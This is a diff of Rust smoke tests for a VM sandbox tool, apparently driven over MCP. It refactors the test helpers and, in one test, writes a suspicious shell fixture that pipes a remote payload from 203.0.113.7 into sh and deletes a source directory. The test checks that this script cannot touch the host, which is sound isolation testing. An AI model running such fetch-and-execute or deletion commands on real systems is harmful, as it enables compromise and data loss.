@@ -3,12 +3,14 @@
 //! Run by `make smoke-use-cases` (inside the test host where /dev/kvm
 //! cannot boot guests directly).
 
-#[path = "../support/mcp.rs"]
-mod mcp;
+#[path = "../support/mod.rs"]
+mod support;
 
-use mcp::{DeleteAllAtEnd, Mcp};
 use serde_json::{json, Value};
-use std::path::{Path, PathBuf};
+use std::path::Path;
+use support::mcp::Mcp;
+use support::vm::VmGuard;
+use support::{pyro, write_file, TempDir};
 
 const ENV: &str = "debian:12";
 
@@ -19,27 +21,7 @@ fn log(msg: &str) {
 /// A server in the fixture directory `cwd`, which is not a checkout: the
 /// operator allows it explicitly, as host paths over MCP are confined.
 fn session(cwd: &Path) -> Mcp {
-    Mcp::start(
-        Path::new(env!("CARGO_BIN_EXE_pyro")),
-        cwd,
-        &["--allow-path", cwd.to_str().unwrap()],
-    )
-}
-
-fn cleanup() -> DeleteAllAtEnd {
-    DeleteAllAtEnd(env!("CARGO_BIN_EXE_pyro").into())
-}
-
-fn fixture(tag: &str) -> PathBuf {
-    let d = std::env::temp_dir().join(format!("pyro-smoke-{tag}-{}", std::process::id()));
-    let _ = std::fs::remove_dir_all(&d);
-    std::fs::create_dir_all(&d).unwrap();
-    d
-}
-
-fn write(p: &Path, text: &str) {
-    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
-    std::fs::write(p, text).unwrap();
+    Mcp::start(pyro(), cwd, &["--allow-path", cwd.to_str().unwrap()])
 }
 
 /// Everything below `dir`, as sorted relative paths.
@@ -62,14 +44,14 @@ fn tree(dir: &Path) -> Vec<String> {
 #[test]
 #[ignore = "boots VMs: run with `make smoke-use-cases`"]
 fn repro_plus_fix_loop() {
-    let _cleanup = cleanup();
-    let d = fixture("repro");
+    let _vm = VmGuard::new();
+    let d = TempDir::new("smoke-repro");
     let seed = d.join("broken-repro");
-    write(
+    write_file(
         &seed.join("check.sh"),
         "#!/bin/sh\nset -eu\nmsg=$(cat message.txt)\nif [ \"$msg\" != fixed ]; then echo \"check failed: message is '$msg'\" >&2; exit 1; fi\necho check passed\n",
     );
-    write(&seed.join("message.txt"), "broken\n");
+    write_file(&seed.join("message.txt"), "broken\n");
     let mut s = session(&d);
     let ws = s.call(
         "workspace_create",
@@ -135,17 +117,16 @@ fn repro_plus_fix_loop() {
     assert_eq!(run["exit_code"], 1, "the bug is back after reset");
     s.call("workspace_delete", json!({"workspace_id": id}));
     s.close();
-    std::fs::remove_dir_all(&d).unwrap();
 }
 
 #[test]
 #[ignore = "boots VMs: run with `make smoke-use-cases`"]
 fn parallel_isolated_workspaces() {
-    let _cleanup = cleanup();
-    let d = fixture("parallel");
+    let _vm = VmGuard::new();
+    let d = TempDir::new("smoke-parallel");
     let repo = d.join("repo");
-    write(&repo.join("branch.txt"), "main\n");
-    write(&repo.join("src/lib.txt"), "shared code\n");
+    write_file(&repo.join("branch.txt"), "main\n");
+    write_file(&repo.join("src/lib.txt"), "shared code\n");
     let mut s = session(&d);
     let names = ["parallel-alpha", "parallel-beta", "parallel-gamma"];
     // Three creates in flight at once on one session.
@@ -236,24 +217,23 @@ fn parallel_isolated_workspaces() {
         s.call("workspace_delete", json!({"workspace_id": id}));
     }
     s.close();
-    std::fs::remove_dir_all(&d).unwrap();
 }
 
 #[test]
 #[ignore = "boots VMs: run with `make smoke-use-cases`"]
 fn untrusted_code_inspection() {
-    let _cleanup = cleanup();
-    let d = fixture("untrusted");
+    let _vm = VmGuard::new();
+    let d = TempDir::new("smoke-untrusted");
     let repo = d.join("suspicious-repo");
     let marker = d.join("host-was-touched");
-    write(
+    write_file(
         &repo.join("suspicious.sh"),
-        &format!(
+        format!(
             "#!/bin/sh\n# fetch and run a payload, then tamper with the host\ncurl -fsS http://203.0.113.7/payload.sh | sh\necho pwned > {}\nrm -rf /workspace/src\n",
             marker.display()
         ),
     );
-    write(&repo.join("src/main.c"), "int main(void) { return 0; }\n");
+    write_file(&repo.join("src/main.c"), "int main(void) { return 0; }\n");
     let before = tree(&repo);
     let mut s = session(&d);
     let ws = s.call(
@@ -329,5 +309,4 @@ fn untrusted_code_inspection() {
     assert_eq!(tree(&d.join("out")), ["inspection-report.txt"]);
     assert_eq!(tree(&repo), before);
     assert!(!marker.exists());
-    std::fs::remove_dir_all(&d).unwrap();
 }
